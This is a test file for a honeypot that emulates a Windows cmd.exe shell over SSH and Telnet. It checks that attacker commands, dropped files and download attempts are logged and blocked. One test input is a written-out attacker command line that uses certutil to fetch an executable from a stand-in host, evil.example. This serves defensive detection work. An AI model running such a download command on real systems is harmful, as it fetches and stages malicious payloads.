/**
 * The dispatch in InteractiveSessions for Windows deckies: SSH and Telnet logins get cmd.exe (its
 * banner instead of a motd, `cmd.exe /c` for exec), and the events a Linux session produces come out
 * the same way: `command` per line, `file_captured` under the Windows path, `download_attempt` for a
 * blocked URL, and `session_recorded` with an asciinema file on disk.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createEmitter } from '../../events/emitter.js';
import { systemClock } from '../../runtime/clock.js';
import type { ServiceContext } from '../service.js';
import { defaultServiceLimits } from '../shared/connection-guard.js';
import { CollectingSink, recordingLogger, testPersona } from '../testing.js';
import { InteractiveSessions } from './sessions.js';

const scratches: string[] = [];

afterEach(() => {
  for (const dir of scratches.splice(0)) rmSync(dir, { recursive: true, force: true });
});

function windowsDecky(service: 'ssh' | 'telnet', distro = 'windows2019') {
  const scratch = mkdtempSync(join(tmpdir(), 'decnet-windows-sessions-'));
  scratches.push(scratch);
  const sink = new CollectingSink();
  const decky = testPersona({
    distro,
    osProfile: distro.startsWith('windows') ? 'windows_server' : 'linux',
    archetype: 'windows-server',
    hostname: 'SRV-FILES-01',
  });
  const { logger, errors } = recordingLogger();
  const ctx: ServiceContext = {
    decky,
    dirs: {
      keys: join(scratch, 'keys'),
      captures: join(scratch, 'captures'),
      recordings: join(scratch, 'recordings'),
    },
    config: {},
    emit: createEmitter({ sink, clock: systemClock, decky: decky.name, service }),
    clock: systemClock,
    logger,
    limits: defaultServiceLimits,
    throttle: { delayMs: () => 0 },
  };
  return { sessions: new InteractiveSessions(ctx, service), sink, errors, scratch };
}

const LOGIN = { username: 'root', srcIp: '198.51.100.7', srcPort: 50123, dstPort: 22 };
const NO_TTY = { isTty: false, columns: 80, rows: 24, term: '' };

async function exec(session: NonNullable<ReturnType<InteractiveSessions['open']>>, line: string) {
  let stdout = '';
  let stderr = '';
  const status = await session.exec(line, {
    stdout: (d) => (stdout += d.toString('utf8')),
    stderr: (d) => (stderr += d.toString('utf8')),
  });
  return { stdout, stderr, status };
}

describe('InteractiveSessions on a Windows decky', () => {
  it.each(['ssh', 'telnet'] as const)(
    'gives a %s login cmd.exe, its banner and its events',
    async (service) => {
      const { sessions, sink, errors, scratch } = windowsDecky(service);
      const session = sessions.open(LOGIN, NO_TTY);
      if (!session) throw new Error('no session');
      expect(session.loginBanner()).toBe(
        'Microsoft Windows [Version 10.0.17763.6659]\r\n(c) 2018 Microsoft Corporation. All rights reserved.\r\n\r\n',
      );
      expect(session.user).toMatchObject({ name: 'Administrator', home: '/C:/Users/Administrator' });
      const r = await exec(
        session,
        'whoami & echo x> C:\\Users\\Public\\drop.txt & certutil -urlcache -f http://evil.example/a.exe a.exe',
      );
      expect(r.stdout).toContain('srv-files-01\\administrator\r\n');
      session.end();
      await sessions.flushed();
      expect(sink.records('command').map((c) => c.fields)).toEqual([
        expect.objectContaining({
          cmd: 'whoami & echo x> C:\\Users\\Public\\drop.txt & certutil -urlcache -f http://evil.example/a.exe a.exe',
          user: 'Administrator',
          uid: '500',
          pwd: 'C:\\Users\\Administrator',
          sid: session.sid,
        }),
      ]);
      expect(sink.records('file_captured').map((c) => c.fields)).toEqual([
        expect.objectContaining({ orig_path: 'C:\\Users\\Public\\drop.txt', size: '4', method: 'shell' }),
      ]);
      expect(sink.records('download_attempt').map((c) => c.fields)).toEqual([
        expect.objectContaining({ url: 'http://evil.example/a.exe', tool: 'certutil', outcome: 'blocked' }),
      ]);
      const [recorded] = sink.records('session_recorded');
      expect(recorded?.fields).toMatchObject({ sid: session.sid, service });
      const cast = join(scratch, 'recordings', `${session.sid}.cast`);
      // asciinema v2 stores output as JSON strings: the backslash is escaped.
      expect(readFileSync(cast, 'utf8')).toContain('srv-files-01\\\\administrator');
      expect(errors).toEqual([]);
    },
  );

  it('keeps Linux deckies on the bash-like shell', async () => {
    const { sessions } = windowsDecky('ssh', 'ubuntu22');
    const session = sessions.open(LOGIN, NO_TTY);
    if (!session) throw new Error('no session');
    expect((await exec(session, 'uname -s')).stdout).toBe('Linux\n');
    session.end();
  });
});
